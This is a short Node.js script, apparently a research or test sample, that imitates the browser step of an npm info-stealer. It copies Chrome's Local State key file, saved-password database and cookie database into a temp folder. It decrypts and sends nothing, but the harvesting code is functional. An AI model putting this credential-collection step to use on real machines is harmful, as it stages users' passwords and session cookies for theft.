/* eslint-disable */
// Inert imitation of an npm info-stealer's browser step: Chrome's password database and the
// Local State file holding its key are copied to a temp folder (nothing is decrypted or sent).
const fs = require('fs');
const os = require('os');
const path = require('path');

const userData = process.platform === 'win32'
  ? path.join(process.env.LOCALAPPDATA || '', 'Google', 'Chrome', 'User Data')
  : path.join(os.homedir(), '.config', 'google-chrome');

const tmp = fs.mkdtempSync(path.join(os.tmpdir(), 'c-'));
for (const file of ['Local State', 'Default/Login Data', 'Default/Network/Cookies']) {
  try {
    fs.copyFileSync(path.join(userData, file), path.join(tmp, path.basename(file)));
  } catch {}
}
